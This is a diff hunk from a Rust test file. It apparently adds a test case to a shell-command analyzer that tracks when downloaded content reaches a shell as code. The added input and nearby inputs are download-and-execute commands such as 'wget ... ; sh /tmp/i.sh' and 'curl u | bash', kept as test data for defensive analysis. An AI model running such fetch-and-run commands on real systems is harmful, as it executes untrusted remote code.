@@ -615,6 +615,10 @@ fn what_reaches_a_shell_is_code() {
         ],
     );
     check(
+        "wget -qP /tmp https://h/i.sh; sh /tmp/i.sh",
+        &["wget -qP /tmp https://h/i.sh", "sh /tmp/i.sh [code from 0]", "?Decoded by 1"],
+    );
+    check(
         "curl u | bash -c 'cat'; curl u | bash s.sh; curl u && sh x",
         &[
             "curl u",
